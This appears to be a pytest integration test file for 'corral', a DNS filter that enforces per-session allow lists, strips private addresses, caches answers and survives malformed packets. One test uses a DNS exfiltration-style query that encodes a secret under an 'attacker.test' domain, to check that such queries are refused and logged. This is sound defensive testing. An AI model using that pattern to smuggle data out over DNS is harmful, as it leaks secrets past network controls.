"""The DNS filter, through real UDP and TCP sockets, in front of a logging fake upstream."""

from __future__ import annotations

import socket
import struct

from dnslib import QTYPE, RCODE, DNSRecord

from tests.integration.conftest import ORIGIN, OUTSIDE_CLIENT, S1_CLIENT, S2_CLIENT


def ask(port, name, qtype="A", source=S1_CLIENT, tcp=False, raw: bytes | None = None):
    wire = raw if raw is not None else DNSRecord.question(name, qtype).pack()
    if tcp:
        with socket.create_connection(("127.0.0.1", port), timeout=5,
                                      source_address=(source, 0)) as sock:
            sock.sendall(struct.pack("!H", len(wire)) + wire)
            (n,) = struct.unpack("!H", sock.recv(2))
            data = b""
            while len(data) < n:
                data += sock.recv(n - len(data))
    else:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.settimeout(5)
            sock.bind((source, 0))
            sock.sendto(wire, ("127.0.0.1", port))
            data, _ = sock.recvfrom(65535)
    return DNSRecord.parse(data) if raw is None else data


def addresses(reply):
    return sorted(str(rr.rdata) for rr in reply.rr if rr.rtype in (QTYPE.A, QTYPE.AAAA))


def test_allowed_name_is_forwarded_and_answered(corral_filter, internet):
    reply = ask(corral_filter.dns_port, "allowed.test")
    assert reply.header.rcode == RCODE.NOERROR
    assert addresses(reply) == [ORIGIN]
    assert ("udp", "allowed.test", "A") in internet.dns.queries


def test_allowed_name_answers_over_tcp_too(corral_filter):
    reply = ask(corral_filter.dns_port, "Allowed.TEST.", tcp=True)
    assert addresses(reply) == [ORIGIN]


def test_denied_name_gets_nxdomain_and_never_reaches_upstream(corral_filter, internet):
    secret = "c2vjcmv0lxrva2vu.exfil.attacker.test"
    reply = ask(corral_filter.dns_port, secret)
    assert reply.header.rcode == RCODE.NXDOMAIN
    reply = ask(corral_filter.dns_port, secret, "TXT", tcp=True)
    assert reply.header.rcode == RCODE.NXDOMAIN
    assert not any("attacker" in name for name in internet.dns.names_asked())
    event = corral_filter.wait_event(lambda e: e["name"] == secret)
    assert event["verdict"] == "deny" and event["kind"] == "dns" and event["session"] == "s1"
    assert event["hint"] == f"corral allow-dns {secret}"


def test_each_session_gets_only_its_own_names(corral_filter):
    assert ask(corral_filter.dns_port, "other.test").header.rcode == RCODE.NXDOMAIN
    assert addresses(ask(corral_filter.dns_port, "other.test", source=S2_CLIENT)) == [ORIGIN]
    assert ask(corral_filter.dns_port, "allowed.test", source=S2_CLIENT).header.rcode == (
        RCODE.NXDOMAIN)
    # Outside every session only the defaults and appliance layers apply: nothing here.
    assert ask(corral_filter.dns_port, "allowed.test", source=OUTSIDE_CLIENT).header.rcode == (
        RCODE.NXDOMAIN)


def test_wildcard_allows_subdomains_and_deny_wins_inside_it(corral_filter, internet):
    assert addresses(ask(corral_filter.dns_port, "x.wild.test")) == [ORIGIN]
    assert ask(corral_filter.dns_port, "no.wild.test").header.rcode == RCODE.NXDOMAIN
    assert ask(corral_filter.dns_port, "wild.test").header.rcode == RCODE.NXDOMAIN  # not apex
    assert "no.wild.test" not in internet.dns.names_asked()


def test_dns_only_rule_is_answered(corral_filter):
    assert addresses(ask(corral_filter.dns_port, "dnsonly.test")) == [ORIGIN]


def test_aaaa_is_handled_like_a_and_blocked_v6_is_removed(corral_filter):
    reply = ask(corral_filter.dns_port, "allowed.test", "AAAA")
    assert reply.header.rcode == RCODE.NOERROR
    assert addresses(reply) == []  # 2001:db8::/32 is a blocked range
    event = corral_filter.wait_event(
        lambda e: e["name"] == "allowed.test" and e.get("qtype") == "AAAA")
    assert any("2001:db8::1" in r for r in event["removed"])


def test_private_addresses_are_removed_from_answers(corral_filter):
    assert addresses(ask(corral_filter.dns_port, "private.test")) == []
    assert addresses(ask(corral_filter.dns_port, "mixed.test")) == [ORIGIN]


def test_cname_chain_is_answered(corral_filter):
    reply = ask(corral_filter.dns_port, "cname.test")
    assert addresses(reply) == [ORIGIN]


def test_upstream_failure_is_servfail_not_nxdomain(corral_filter, internet):
    internet.dns.zone["broken.wild.test"] = []
    internet.dns.servfail.add("broken.wild.test")
    assert ask(corral_filter.dns_port, "broken.wild.test").header.rcode == RCODE.SERVFAIL
    internet.dns.silent.add("slow.wild.test")
    assert ask(corral_filter.dns_port, "slow.wild.test").header.rcode == RCODE.SERVFAIL


def test_truncated_upstream_answer_is_retried_over_tcp(corral_filter, internet):
    internet.dns.zone["big.wild.test"] = [("A", ORIGIN, 300)]
    internet.dns.truncate.add("big.wild.test")
    assert addresses(ask(corral_filter.dns_port, "big.wild.test")) == [ORIGIN]
    assert ("tcp", "big.wild.test", "A") in internet.dns.queries


def test_answers_are_cached(corral_filter, internet):
    internet.dns.zone["cached.wild.test"] = [("A", ORIGIN, 300)]
    seen = len(internet.dns.queries)  # the fake server is shared with the other loop's run
    for _ in range(3):
        assert addresses(ask(corral_filter.dns_port, "cached.wild.test")) == [ORIGIN]
    asked = [q for q in internet.dns.queries[seen:] if q[1] == "cached.wild.test"]
    assert len(asked) == 1


def test_hot_answers_are_reused_as_bytes_with_their_own_id_ttl_and_event(corral_filter,
                                                                         internet):
    import time

    internet.dns.zone["hot.wild.test"] = [("A", ORIGIN, 300)]
    query = DNSRecord.question("hot.wild.test")
    query.header.id = 1111
    first = ask(corral_filter.dns_port, "", raw=query.pack())
    hits = corral_filter.control({"op": "status"})["dns"]["wire_cache_hits"]
    query.header.id = 2222
    time.sleep(1.1)  # the second answer's TTL must have gone down
    second = ask(corral_filter.dns_port, "", raw=query.pack(), source=S1_CLIENT)
    a, b = DNSRecord.parse(first), DNSRecord.parse(second)
    assert (a.header.id, b.header.id) == (1111, 2222)
    assert addresses(a) == addresses(b) == [ORIGIN]
    assert b.rr[0].ttl < a.rr[0].ttl
    assert corral_filter.control({"op": "status"})["dns"]["wire_cache_hits"] == hits + 1
    assert a.questions == b.questions and a.header.rcode == b.header.rcode
    events = [e for e in corral_filter.events() if e["name"] == "hot.wild.test"]
    assert len(events) == 2 and len({e["id"] for e in events}) == 2  # every answer recorded
    assert events[0]["verdict"] == events[1]["verdict"] == "allow"


def test_a_policy_change_is_never_hidden_by_a_cached_answer(corral_filter, internet):
    name = "later-allowed.test"
    internet.dns.zone[name] = [("A", ORIGIN, 300)]
    assert ask(corral_filter.dns_port, name).header.rcode == RCODE.NXDOMAIN  # cached denial
    cached = corral_filter.control({"op": "status"})["dns"]["wire_cache_entries"]
    corral_filter.control({"op": "add", "session": "s1", "kind": "dns", "rule": name})
    try:
        assert addresses(ask(corral_filter.dns_port, name)) == [ORIGIN]
        # s1's answers under its old policy are gone (they would pin the old Policy)
        assert corral_filter.control({"op": "status"})["dns"]["wire_cache_entries"] <= cached
    finally:
        corral_filter.control({"op": "remove", "session": "s1", "kind": "dns", "rule": name})
    assert ask(corral_filter.dns_port, name).header.rcode == RCODE.NXDOMAIN  # and back
    assert ask(corral_filter.dns_port, name, source=S2_CLIENT).header.rcode == RCODE.NXDOMAIN


def test_host_corral_resolves_to_the_gateway_only_with_host_ports(corral_filter):
    assert addresses(ask(corral_filter.dns_port, "host.corral")) == [ORIGIN]
    assert ask(corral_filter.dns_port, "host.corral", source=S2_CLIENT).header.rcode == (
        RCODE.NXDOMAIN)


def test_malformed_queries_are_answered_and_server_keeps_serving(corral_filter):
    port = corral_filter.dns_port
    garbage = b"\x12\x34" + b"\x01\x00" + b"\x00\x01\x00\x00\x00\x00\x00\x00" + b"\xff" * 20
    reply = ask(port, "", raw=garbage)
    assert reply[:2] == b"\x12\x34" and reply[3] & 0x0F == RCODE.FORMERR
    two_questions = DNSRecord.question("allowed.test")
    two_questions.add_question(*DNSRecord.question("other.test").questions)
    reply = DNSRecord.parse(ask(port, "", raw=two_questions.pack()))
    assert reply.header.rcode == RCODE.FORMERR
    any_query = DNSRecord.question("allowed.test", "ANY").pack()
    assert DNSRecord.parse(ask(port, "", raw=any_query)).header.rcode == RCODE.REFUSED
    https_rr = DNSRecord.question("allowed.test", "HTTPS").pack()
    reply = DNSRecord.parse(ask(port, "", raw=https_rr))
    assert reply.header.rcode == RCODE.NOERROR and not reply.rr
    # A too-short packet gets no answer (nothing to answer to) but breaks nothing.
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"\x00\x01", ("127.0.0.1", port))
    assert addresses(ask(port, "allowed.test")) == [ORIGIN]


def test_tcp_garbage_and_idle_connections_do_not_block_others(corral_filter):
    idle = socket.create_connection(("127.0.0.1", corral_filter.dns_port), timeout=5)
    idle.sendall(b"\x00")  # half a length prefix, then nothing
    assert addresses(ask(corral_filter.dns_port, "allowed.test", tcp=True)) == [ORIGIN]
    idle.close()
